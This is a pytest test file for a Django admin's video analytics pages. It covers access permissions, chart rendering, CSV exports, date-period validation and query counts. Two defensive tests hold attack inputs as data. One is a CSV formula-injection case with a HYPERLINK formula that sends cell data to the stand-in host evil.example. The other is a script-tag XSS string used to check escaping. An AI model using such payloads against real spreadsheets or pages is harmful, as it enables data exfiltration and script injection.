"""The analytics pages in the admin: who sees them, what they draw, the CSVs."""

import csv
import io

import pytest
from django.contrib.auth.models import Group, Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.models import User
from tests.analytics.rows import DAY, HOUR, PERIOD, day_row, days
from tests.catalog.factories import EpisodeFactory, SeasonFactory, TitleFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def editor_client(client, editor_user):
    client.force_login(editor_user)
    return client


@pytest.fixture
def watched(settings):
    settings.ANALYTICS_RETENTION_BUCKETS = 10
    title = TitleFactory(name="Watched <Film>")
    day_row(
        title,
        plays=4,
        viewers=3,
        watch_ms=2 * HOUR,
        startups=4,
        counters={"reach:0": 4, "reach:9": 1, "startup:1": 4, "seek_to:3": 2,
                  "startups|pathway:a": 4, "startup:1|pathway:a": 4},
    )  # fmt: skip
    day_row(title, day=DAY + days(2), plays=1, watch_ms=HOUR, counters={"reach:0": 1})
    return title


def title_url(title, name="admin:analytics_title", *args):
    return reverse(name, args=[title.pk, *args])


def test_the_editors_group_may_view_the_analytics():
    editors = Group.objects.get(name="Editors")
    assert editors.permissions.filter(
        content_type__app_label="analytics", codename="view_titleday"
    ).exists()


def test_an_editor_sees_a_titles_charts_drawn_with_data_points(editor_client, watched):
    response = editor_client.get(title_url(watched), PERIOD)

    assert response.status_code == 200
    html = response.content.decode()
    assert "Watched &lt;Film&gt;" in html
    assert 'data-chart="retention"' in html
    assert html.count('<circle class="point"') >= 10 + 7  # retention and days
    assert '<rect class="bar"' in html
    assert "Download CSV" in html
    assert "<summary>Table</summary>" in html
    assert "20.0%" in html  # completion: 1 of 5 plays reached the end


def test_a_title_without_figures_shows_the_empty_state(editor_client):
    title = TitleFactory(name="Unwatched")

    html = editor_client.get(title_url(title), PERIOD).content.decode()

    assert 'id="analytics-empty"' in html
    assert "No figures for Unwatched in this period" in html
    assert "analytics-chart" not in html.split("</style>")[-1]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"from": "not-a-day"}, "must be a date as YYYY-MM-DD"),
        ({"from": "0001-01-01", "to": "0001-01-05"}, "on or after 2000-01-01"),
        ({"from": "2020-01-01", "to": "2026-01-01"}, "at most 366 days"),
    ],
)
def test_a_bad_period_falls_back_to_the_default_with_a_message(
    editor_client, watched, query, message
):
    for url in (title_url(watched), reverse("admin:analytics_overview")):
        response = editor_client.get(url, query)

        assert response.status_code == 200
        assert message in response.content.decode()
        assert "Showing the last 28 days instead." in response.content.decode()


def test_a_charts_csv_has_the_tables_rows(editor_client, watched):
    response = editor_client.get(
        title_url(watched, "admin:analytics_title_csv", "retention"), PERIOD
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Point of the video", "Plays still watching (%)"]
    assert rows[1] == ["0%", "100.0"]
    assert rows[10] == ["90%", "20.0"]
    assert len(rows) == 11


def test_the_daily_csv_covers_every_day_of_the_period(editor_client, watched):
    response = editor_client.get(
        title_url(watched, "admin:analytics_title_csv", "daily"), PERIOD
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == [DAY.isoformat(), "2.0", "4"]
    assert rows[3] == [(DAY + days(2)).isoformat(), "1.0", "1"]
    assert len(rows) == 8


def test_an_unknown_chart_is_a_404(editor_client, watched):
    url = title_url(watched, "admin:analytics_title_csv", "nothing")
    assert editor_client.get(url).status_code == 404


def test_the_overview_lists_top_titles_and_its_csv(editor_client, watched):
    response = editor_client.get(reverse("admin:analytics_overview"), PERIOD)

    assert response.status_code == 200
    html = response.content.decode()
    assert title_url(watched) in html
    assert 'data-chart="trend"' in html
    csv_response = editor_client.get(
        reverse("admin:analytics_overview_csv", args=["top-titles"]), PERIOD
    )
    rows = list(csv.reader(io.StringIO(csv_response.content.decode())))
    assert rows[1][:2] == ["Watched <Film>", "3.0"]


def test_the_index_the_title_list_and_the_title_page_link_the_analytics(
    editor_client, watched
):
    overview = reverse("admin:analytics_overview")
    assert overview in editor_client.get(reverse("admin:index")).content.decode()
    listing = editor_client.get(reverse("admin:catalog_title_changelist"))
    assert title_url(watched) in listing.content.decode()
    change = editor_client.get(reverse("admin:catalog_title_change", args=[watched.pk]))
    assert title_url(watched) in change.content.decode()


def test_staff_without_the_permission_get_a_403(client, watched):
    user = User.objects.create_user(email="staff@example.com", is_staff=True)
    user.user_permissions.add(
        Permission.objects.get(content_type__app_label="catalog", codename="view_title")
    )
    client.force_login(user)

    assert client.get(title_url(watched)).status_code == 403
    assert client.get(reverse("admin:analytics_overview")).status_code == 403
    csv_url = title_url(watched, "admin:analytics_title_csv", "daily")
    assert client.get(csv_url).status_code == 403
    listing = client.get(reverse("admin:catalog_title_changelist")).content.decode()
    assert title_url(watched) not in listing


def test_a_viewer_is_sent_to_the_admin_sign_in(client, watched):
    client.force_login(User.objects.create_user(email="viewer@example.com"))

    response = client.get(title_url(watched))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))


def test_a_series_page_links_each_episodes_own_page(editor_client):
    season = SeasonFactory()
    episode = EpisodeFactory(season=season, number=3, name="Third")
    day_row(season.title, episode=episode, plays=2, watch_ms=HOUR)
    url = title_url(season.title)

    html = editor_client.get(url, PERIOD).content.decode()
    assert f"episode={episode.pk}" in html
    response = editor_client.get(url, {**PERIOD, "episode": episode.pk})
    assert response.status_code == 200
    assert f"&amp;episode={episode.pk}" in response.content.decode()  # its CSVs
    other = EpisodeFactory()
    assert editor_client.get(url, {"episode": other.pk}).status_code == 404
    for bad in ("x", "²", "9" * 30):
        assert editor_client.get(url, {"episode": bad}).status_code == 404, bad


def test_a_title_page_takes_the_same_queries_for_one_episode_or_many(
    editor_client, django_assert_max_num_queries
):
    """Figures for any number of episodes and days in one query for the rows
    and one for the episodes' names (the rest: session, user, permissions)."""
    season = SeasonFactory()
    day_row(season.title, episode=EpisodeFactory(season=season, number=1), plays=1)
    url = title_url(season.title)
    editor_client.get(url, PERIOD)  # warm: content types, permissions
    with CaptureQueriesContext(connection) as one:
        editor_client.get(url, PERIOD)
    for number in range(2, 8):
        episode = EpisodeFactory(season=season, number=number)
        for offset in range(7):
            day_row(season.title, day=DAY + days(offset), episode=episode, plays=1)
    with django_assert_max_num_queries(len(one)):
        editor_client.get(url, PERIOD)


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd", "-2+3", "@SUM(A1)"],
)
def test_a_csv_quotes_a_title_name_a_spreadsheet_would_run(editor_client, name):
    title = TitleFactory(name=name)
    day_row(title, plays=3, watch_ms=HOUR)

    response = editor_client.get(
        reverse("admin:analytics_overview_csv", args=["top-titles"]), PERIOD
    )

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][0] == "'" + name
    assert rows[1][1:3] == ["1.0", "0.0"]  # numbers stay numbers


def test_a_csv_keeps_a_negative_change_a_number(editor_client, watched):
    day_row(watched, day=DAY - days(7), plays=8, watch_ms=12 * HOUR)

    response = editor_client.get(
        reverse("admin:analytics_overview_csv", args=["top-titles"]), PERIOD
    )

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][:4] == ["Watched <Film>", "3.0", "12.0", "-75.0"]


def test_a_title_name_with_markup_is_escaped_in_charts_and_tables(editor_client):
    name = """<script>alert("x")</script> & 'Co'"""
    title = TitleFactory(name=name)
    day_row(title, plays=2, watch_ms=HOUR, counters={"reach:0": 2})

    pages = [
        editor_client.get(reverse("admin:analytics_overview"), PERIOD),
        editor_client.get(title_url(title), PERIOD),
    ]

    escaped = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#x27;Co&#x27;"
    for response in pages:
        assert response.status_code == 200
        html = response.content.decode()
        assert "<script>alert" not in html
        assert escaped in html
    overview = pages[0].content.decode()
    svg = overview[overview.index('data-chart="top-titles"') :]
    svg = svg[: svg.index("</svg>")]
    assert f"<title>{escaped}: Watch hours 1</title>" in svg  # the bar's label
    assert "&lt;script&gt;alert(&quot;…</text>" in svg  # the cut x label


def test_staff_without_the_permission_get_a_403_for_the_overview_csv(client):
    user = User.objects.create_user(email="staff@example.com", is_staff=True)
    client.force_login(user)

    url = reverse("admin:analytics_overview_csv", args=["top-titles"])
    assert client.get(url).status_code == 403
